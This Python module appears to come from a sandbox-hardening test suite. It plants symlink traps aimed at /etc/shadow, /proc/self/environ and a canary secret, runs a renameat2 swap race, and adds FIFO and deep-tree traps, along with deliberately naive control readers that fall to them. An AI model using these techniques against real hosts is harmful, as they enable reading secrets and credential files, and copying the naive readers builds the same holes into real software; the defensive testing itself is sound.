"""Group F: what a hostile box leaves in its tree for a reader on the host; and naive readers, which the controls are.

Arguments name the canaries. `naive...` programs run outside boxes only, on a folder of prove's own.
"""

from __future__ import annotations

import ctypes
import os
import shutil
import signal
import socket
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

from ringfence.prove.attacks.trying import Outcomes, Place, attempt, machine, syscall

RENAME_EXCHANGE = 2
AT_FDCWD = -100
SECONDS = 1.0  # short form; a race that is lost at all is lost some hundred times in it


def exchange(first: str, second: str) -> None:
    number = 276 if machine() == "aarch64" else 316  # renameat2
    one, two = (ctypes.c_char_p(os.fsencode(name)) for name in (first, second))
    syscall(number, AT_FDCWD, one, AT_FDCWD, two, RENAME_EXCHANGE)


def links(place: Place) -> Outcomes:
    """F01, F03, F04. Arguments: a folder, the host's canary file, its open folder, another user's tree."""
    folder, secret, opened, other = place.arguments
    os.makedirs(folder, exist_ok=True)
    os.chdir(folder)
    up = "../" * 20
    wanted = {
        "absolute": secret,
        "relative": up + secret[1:],
        "chain": "absolute",
        "shadow": "/etc/shadow",
        "other": f"{other}/home/flag.txt",
        "folder": opened,
        "rootward": up,
        "environ": "/proc/self/environ",
        "by-root": f"/proc/self/root{secret}",
        "by-cwd": f"/proc/self/cwd/{up}{secret[1:]}",
        "by-init": f"/proc/1/root{secret}",
        "by-fd": "/proc/self/fd/0",
    }
    for name, target in wanted.items():
        Path(name).unlink(missing_ok=True)
        os.symlink(target, name)
    if not os.path.exists("fifo"):
        os.mkfifo("fifo")
        socket.socket(socket.AF_UNIX).bind("socket")
    Path("plain").write_text("of the box")
    return {"planted": "ready"}


def race(place: Place) -> Outcomes:
    """F02, F06, F07: a folder and a link to the canary change places until told. Arguments: a folder, the canary folder,
    seconds."""
    folder, canary, seconds = place.arguments[0], place.arguments[1], float(place.arguments[2])
    with swapping(folder, canary, seconds):
        pass
    return {"raced": "ready"}


@contextmanager
def swapping(folder: str, canary: str, seconds: float) -> Iterator[None]:
    shutil.rmtree(folder, ignore_errors=True)
    os.makedirs(f"{folder}/d")
    Path(f"{folder}/d/secret").write_text("of the box")
    os.symlink(canary, f"{folder}/l")
    pid = os.fork()
    if pid == 0:
        until = time.monotonic() + seconds
        while time.monotonic() < until:
            try:
                exchange(f"{folder}/d", f"{folder}/l")
            except OSError:  # the reader has removed one of them
                time.sleep(0.001)
                restore(folder, canary)
        os._exit(0)
    try:
        yield
    finally:
        os.waitpid(pid, 0)


def restore(folder: str, canary: str) -> None:
    try:
        os.makedirs(f"{folder}/d", exist_ok=True)
        if not os.path.lexists(f"{folder}/l"):
            os.symlink(canary, f"{folder}/l")
    except OSError:
        return


def deep(place: Place) -> Outcomes:
    """F16: folders in folders. Arguments: where, how many."""
    os.makedirs(place.arguments[0], exist_ok=True)
    os.chdir(place.arguments[0])
    for _ in range(int(place.arguments[1])):
        os.mkdir("d")
        os.chdir("d")
    return {"planted": "ready"}


def many(place: Place) -> Outcomes:
    """F17. Arguments: where, how many files."""
    os.makedirs(place.arguments[0], exist_ok=True)
    os.chdir(place.arguments[0])
    for number in range(int(place.arguments[1])):
        os.close(os.open(f"{number:06d}", os.O_CREAT | os.O_WRONLY))
    return {"planted": "ready"}


# --- controls ---------------------------------------------------------------------------------------------------------


def own(place: Place) -> str:
    path = f"{place.arguments[0]}/naive-{os.getpid()}"
    os.mkdir(path)
    return path


def naive_reading(place: Place) -> Outcomes:
    """A reader that opens what it finds. Arguments: a folder for it, the canary file, the open folder."""
    folder = own(place)
    links(Place([folder, place.arguments[1], place.arguments[2], "/nowhere"]))
    wanted = Path(place.arguments[1]).read_text()
    names = ("absolute", "relative", "chain", "by-root", "by-init", "by-cwd")

    def read(name: str) -> None:
        if Path(f"{folder}/{name}").read_text() != wanted:
            raise ValueError("something else")

    try:
        return {name: attempt(lambda name=name: read(name)) for name in names}  # type: ignore[misc]
    finally:
        os.chdir("/")
        shutil.rmtree(folder)


def naive_blocking(place: Place) -> Outcomes:
    """A reader that opens a FIFO waits for ever."""
    folder = own(place)
    os.mkfifo(f"{folder}/fifo")
    pid = os.fork()
    if pid == 0:
        signal.alarm(1)
        os.close(os.open(f"{folder}/fifo", os.O_RDONLY))
        os._exit(0)
    _, status = os.waitpid(pid, 0)
    shutil.rmtree(folder)
    return {"fifo": "done waits" if os.WIFSIGNALED(status) else "opened"}


def naive_race(place: Place) -> Outcomes:
    """A reader that looks where a path leads and then opens it. Arguments: a folder, the canary folder (with `secret`)."""
    folder, canary = own(place), place.arguments[1]
    wanted = Path(f"{canary}/secret").read_text()
    lost = tries = 0
    try:
        with swapping(f"{folder}/race", canary, SECONDS):
            until = time.monotonic() + SECONDS
            while time.monotonic() < until:
                tries += 1
                try:
                    if os.path.realpath(f"{folder}/race/d/secret").startswith(folder):
                        lost += Path(f"{folder}/race/d/secret").read_text() == wanted
                except OSError:
                    continue
    finally:
        shutil.rmtree(folder, ignore_errors=True)
    return {"race": f"done {lost} of {tries} reads" if lost else f"none of {tries}"}


def naive_writing(place: Place) -> Outcomes:
    """A writer and a remover that follow a link, to a folder of their own."""
    folder = own(place)
    os.mkdir(f"{folder}/target")
    Path(f"{folder}/target/victim").touch()
    os.symlink(f"{folder}/target", f"{folder}/link")
    try:
        return {
            "write": attempt(lambda: Path(f"{folder}/link/new").touch()),
            "remove": attempt(lambda: os.unlink(f"{folder}/link/victim")),
        }
    finally:
        shutil.rmtree(folder)


def naive_deep(place: Place) -> Outcomes:
    """A remover that calls itself for each folder. Gives the tree back by a walk that goes down and up again."""
    folder = own(place)
    count = 3000
    deep(Place([folder, str(count)]))
    os.chdir("/")

    def recursive(path: str) -> None:
        for entry in os.scandir(path):
            recursive(entry.path)
        os.rmdir(path)

    said = attempt(lambda: recursive(folder))
    os.chdir(folder)
    for _ in range(count):
        os.chdir("d")
    for _ in range(count):
        os.chdir("..")
        os.rmdir("d")
    os.chdir("/")
    os.rmdir(folder)
    return {"recursive": "removed" if said == "done" else f"done it fails with {said[:80]}"}


ATTACKS = {
    "links": links,
    "race": race,
    "deep": deep,
    "many": many,
    "naive_reading": naive_reading,
    "naive_blocking": naive_blocking,
    "naive_race": naive_race,
    "naive_writing": naive_writing,
    "naive_deep": naive_deep,
}
